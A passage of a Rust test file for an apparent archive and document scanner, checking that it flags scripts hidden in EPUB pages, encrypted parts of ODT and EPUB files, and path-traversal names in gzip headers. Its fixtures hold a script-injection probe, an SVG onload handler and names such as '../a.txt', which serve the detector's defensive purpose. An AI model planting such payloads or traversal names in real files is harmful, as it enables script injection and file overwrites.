            "[Content_Types].xml" => Zip::default().deflated(name, &content),
            _ => {
                Zip::default().deflated("[Content_Types].xml", types("").as_bytes()).deflated(name, &content)
            }
        };
        let zip = zip.stored("word/x.txt", b"x").finish();
        let (Members { summary, .. }, _) = take("application/zip", &zip, &LIMITS).await.unwrap();
        let found: Vec<_> =
            summary.findings.iter().map(|f| f.code.trim_start_matches("structure.")).collect();
        assert_eq!(found, expected, "{what}: {summary:?}");
        assert!(summary.coverage.is_complete(), "{what}");
    }
}

/// What a page of a book is, its list of parts says, and no name.
#[tokio::test]
async fn pages_of_books_are_judged_by_what_they_are() {
    const EPUB: &str = "application/epub+zip";
    let page = |body: &str| {
        format!("<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><body>{body}</body></html>")
    };
    let script = page("<script>alert(1)</script>");
    // Longer than what a type is told from.
    let late = script.replacen("<html", &format!("<!--{}--><html", "x".repeat(9000)), 1);
    let doctype = script.replacen("<html", "<!DOCTYPE html><html", 1);
    let wide: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>";
    let list = "<package xmlns='http://www.idpf.org/2007/opf'><item href='a.xhtml'/></package>";
    let cases: [(&str, Vec<u8>, &[&str]); 9] = [
        ("a.xhtml", page("<p>text</p>").into(), &[]),
        ("package.opf", list.into(), &[]),
        ("a.opf", list.replace("<item", "<script/><item").into(), &["active"]),
        ("a.dat", script.into(), &["active"]),
        ("a.xml", late.into(), &["active"]),
        ("a", doctype.into(), &["active"]),
        ("a.css", wide, &["active"]),
        ("a.png", svg.into(), &["active"]),
        ("a.bin", b"\x4c\x6f\xa7\x94\x93 and so on".to_vec(), &["external"]),
    ];
    for (name, content, expected) in cases {
        let zip = Zip::default().stored("mimetype", EPUB.as_bytes()).deflated(name, &content).finish();
        let (Members { summary, .. }, _) = take(EPUB, &zip, &LIMITS).await.unwrap();
        let found: Vec<_> =
            summary.findings.iter().map(|f| f.code.trim_start_matches("structure.")).collect();
        assert_eq!(found, expected, "{name}: {summary:?}");
    }
}

/// Parts of documents that only who has the key can read: the documents say so themselves (OpenDocument 1.2 part 3, 3.4;
/// EPUB OCF 3.3, 4.2.6.3.1).
#[tokio::test]
async fn encrypted_parts_of_documents_are_told() {
    const ODT: &str = "application/vnd.oasis.opendocument.text";
    const EPUB: &str = "application/epub+zip";
    let manifest = |within: &str| {
        format!(
            "<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\"><manifest:file-entry>{within}</manifest:file-entry></manifest:manifest>"
        )
    };
    let locked = manifest("<manifest:encryption-data manifest:checksum=\"x\"/>");
    let fonts = "<encryption xmlns=\"urn:oasis:names:tc:opendocument:xmlns:container\"/>";
    for (media_type, name, content, expected) in [
        (ODT, "META-INF/manifest.xml", manifest(""), ""),
        (ODT, "META-INF/manifest.xml", locked, "encrypted"),
        (EPUB, "META-INF/encryption.xml", fonts.to_owned(), "encrypted"),
        (EPUB, "META-INF/rights.xml", fonts.to_owned(), ""),
    ] {
        let zip = Zip::default().stored("mimetype", media_type.as_bytes()).deflated(name, content.as_bytes());
        let (Members { summary, .. }, _) = take(media_type, &zip.finish(), &LIMITS).await.unwrap();
        let found: Vec<_> =
            summary.findings.iter().map(|f| f.code.trim_start_matches("structure.")).collect();
        let wanted = if expected.is_empty() { vec![] } else { vec![expected] };
        assert_eq!((found, code(&summary.coverage)), (wanted, expected), "{media_type} {name}: {summary:?}");
    }
}

#[tokio::test]
async fn a_name_in_the_header_of_a_stream_is_no_path() {
    let pool = pool();
    let long = "x".repeat(300);
    for (name, found) in [("a.txt", 0), ("../a.txt", 1), ("a\\b.txt", 1), ("..", 1), (&long, 1)] {
        let mut encoder = flate2::GzBuilder::new().filename(name).write(Vec::new(), Compression::best());
        encoder.write_all(b"text").unwrap();
        let file = encoder.finish().unwrap();
        let report = open(&pool, &file, "application/gzip").await.walk().await.unwrap();
        let codes: Vec<_> = report.findings.iter().map(|f| f.code.as_str()).collect();
        assert_eq!(codes, vec!["structure.path"; found], "{name}");
    }
}
